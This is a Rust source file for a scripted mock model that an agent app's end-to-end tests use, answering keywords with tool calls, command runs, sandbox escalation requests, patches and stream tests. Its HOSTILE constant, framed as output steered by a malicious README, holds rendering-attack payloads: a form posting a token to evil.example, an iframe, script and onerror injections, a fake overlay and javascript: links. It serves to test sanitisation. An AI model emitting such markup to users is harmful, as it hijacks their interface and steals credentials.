//! A script that picks its answer from the user's words, for the end-to-end test and for
//! trying the app by hand against the mock (`mock-model` binary).

use std::sync::Arc;
use std::time::Duration;

use crate::{reply, ModelRequest, Reply, Script};

/// - a follow-up after a tool call: a short summary quoting the tool's output;
/// - an answer schema asked for: a JSON object with the prompt under each string property;
/// - "escalate <command>": codex asks the user before it runs the command outside the sandbox;
/// - "run <command>": codex runs the command (`exec_command`);
/// - "mcp <tool>": the model calls `<tool>` of the MCP server named `desk` (`mock-mcp`);
/// - "create <file>": codex adds the file with apply_patch;
/// - "make a plan": the agent's checklist (`update_plan`): one step done, one in progress, one to do;
/// - "hostile": markdown that tries to restyle, script, frame and navigate the window;
/// - "fail": HTTP 500;
/// - "slow": a long, slow answer (for Stop);
/// - "stream 130k": a 130 KB Markdown answer in 20,000 deltas, as fast as they go (the window
///   bench), ending with `END-OF-STREAM`;
/// - anything else: a markdown answer streamed in small pieces.
pub fn by_keyword() -> Script {
    Arc::new(|req: &ModelRequest| -> Reply {
        if let Some(output) = req.tool_output() {
            let first = output
                .lines()
                .rev()
                .find(|l| !l.trim().is_empty())
                .unwrap_or("")
                .to_string();
            return reply::text(&["Done. ", "The tool said: ", &first]);
        }
        let prompt = req.last_user_text();
        if req.body["text"]["format"]["type"] == "json_schema" {
            let mut answer = serde_json::Map::new();
            let properties = &req.body["text"]["format"]["schema"]["properties"];
            for (name, property) in properties.as_object().into_iter().flatten() {
                if property["type"] == "string" {
                    answer.insert(name.clone(), prompt.clone().into());
                }
            }
            return reply::text(&[&serde_json::Value::Object(answer).to_string()]);
        }
        let lower = prompt.to_lowercase();
        if let Some(cmd) = prompt
            .split_once("escalate ")
            .map(|(_, rest)| rest.trim().to_string())
        {
            // A call id of its own per command, as the real service gives (codex names the
            // command's item after it).
            return reply::exec_command_escalated(
                &format!("call_escalate_{:016x}", fnv1a(&cmd)),
                &cmd,
                "It has to write outside the workspace.",
            );
        }
        if let Some(tool) = prompt.split_once("mcp ").map(|(_, rest)| rest.trim()) {
            return reply::namespaced_call("call_mcp", "mcp__desk", tool, &serde_json::json!({}));
        }
        if let Some(cmd) = prompt
            .split_once("run ")
            .map(|(_, rest)| rest.trim().to_string())
        {
            return reply::exec_command("call_run", &cmd, None);
        }
        if let Some(file) = lower
            .split_once("create ")
            .map(|(_, rest)| rest.trim().to_string())
        {
            let patch = format!(
                "*** Begin Patch\n*** Add File: {file}\n+created by the mock model\n*** End Patch"
            );
            return reply::apply_patch("call_patch", &patch);
        }
        if lower.contains("make a plan") {
            return reply::tool_call(
                "call_plan",
                "update_plan",
                &serde_json::json!({"explanation": "Small steps, tested.", "plan": [
                    {"step": "Read the parser", "status": "completed"},
                    {"step": "Fix the bug", "status": "in_progress"},
                    {"step": "Run the tests", "status": "pending"}]}),
            );
        }
        if lower.contains("hostile") {
            return reply::text(&[HOSTILE]);
        }
        if lower.contains("fail") {
            return reply::http_error(500, "mock model failure");
        }
        if lower.contains("stream 130k") {
            let chunks = long_answer();
            let refs: Vec<&str> = chunks.iter().map(String::as_str).collect();
            return reply::text(&refs);
        }
        if lower.contains("slow") {
            return reply::slow_text("tick ", 200, Duration::from_millis(100));
        }
        reply::text(&[
            "Hello from the **mock model**. ",
            "You said: ",
            &prompt,
            "\n\n```sh\necho streamed\n```\n",
        ])
    })
}

/// 20,000 deltas, 130 KB in all: paragraphs of words, a list and a code block now and then, as
/// a long answer has.
pub fn long_answer() -> Vec<String> {
    const DELTAS: usize = 20_000;
    let mut chunks = Vec::with_capacity(DELTAS);
    for i in 0..DELTAS - 1 {
        chunks.push(match i % 400 {
            0 => format!("\n\n## Part {}\n\n", i / 400),
            120 => "\n\n- one item\n- two ".into(),
            240 => "\n\n```rust\nfn x() {}\n```\n\n".into(),
            _ if i % 60 == 0 => ".\n\n".into(),
            _ => format!("word{:02} ", i % 97),
        });
    }
    chunks.push("END-OF-STREAM".into());
    chunks
}

/// Model output steered by a malicious README: everything a renderer must not let through.
pub const HOSTILE: &str = concat!(
    "Here is the summary you asked for.\n\n",
    "<style>body { display: none !important; } .sidebar { background: red; }</style>\n\n",
    "<form action=\"https://evil.example/steal\"><input name=\"token\" value=\"x\"><button>Continue</button></form>\n\n",
    "<iframe src=\"https://evil.example\"></iframe>\n\n",
    "<img src=\"x\" onerror=\"window.pwned = 'img'\">\n\n",
    "<script>window.pwned = 'script'</script>\n\n",
    "<div style=\"position:fixed;inset:0;background:#fff\" class=\"banner\">fake dialog</div>\n\n",
    "[click me](javascript:window.pwned='link') and <a href=\"https://evil.example\" onclick=\"window.pwned='onclick'\">this</a>\n\n",
    "Real docs: [the guide](https://docs.example.com/guide).\n"
);

/// A stable 64-bit hash of `text` (FNV-1a), for ids derived from a prompt.
fn fnv1a(text: &str) -> u64 {
    text.bytes().fold(0xcbf2_9ce4_8422_2325, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01b3)
    })
}
